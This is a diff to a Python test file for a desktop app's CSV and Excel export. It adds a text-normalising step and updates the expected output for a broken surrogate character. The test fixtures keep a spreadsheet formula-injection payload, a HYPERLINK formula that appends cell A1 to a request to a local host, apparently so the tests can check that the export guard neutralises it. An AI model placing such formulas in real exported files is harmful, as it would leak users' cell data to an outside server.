@@ -17,6 +17,7 @@ from desktop.adapters.exports.table_files import csv_bytes, write_table, xlsx_by
 from desktop.domain.csv_guard import guarded
 from desktop.domain.errors import DeskError, DiskFull, FileInUse, FileNotWritten
 from desktop.domain.exported import ExportedTable
+from desktop.domain.honest_text import honest
 
 FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1,"click")'
 TABLE = ExportedTable(
@@ -80,7 +81,7 @@ def test_any_csv_is_read_again_as_it_was_but_for_the_guard(
     rows: tuple[tuple[str, str], ...], separator: str
 ) -> None:
     content = csv_bytes(ExportedTable("", ("a", "b"), rows, separator))
-    assert read_csv(content, separator)[1:] == [[guarded(cell) for cell in row] for row in rows]
+    assert read_csv(content, separator)[1:] == [[guarded(honest(cell)) for cell in row] for row in rows]
 
 
 def test_a_workbook_holds_texts_only_and_to_the_letter() -> None:
@@ -97,8 +98,8 @@ def test_any_title_gives_a_sheet(title: str) -> None:
 
 def test_half_a_surrogate_pair_stops_nothing(tmp_path: Path) -> None:
     table = ExportedTable("t", ("a",), (("\ud800!",),))
-    assert read_csv(csv_bytes(table))[1] == ["?!"]
-    assert cells(xlsx_bytes(table))[1] == ["?!"]
+    assert read_csv(csv_bytes(table))[1] == ["�!"]
+    assert cells(xlsx_bytes(table))[1] == ["�!"]
 
 
 @pytest.mark.parametrize("name", ["list.csv", "list.CSV", "list.xlsx", "list", "ünï – 1.xlsx"])
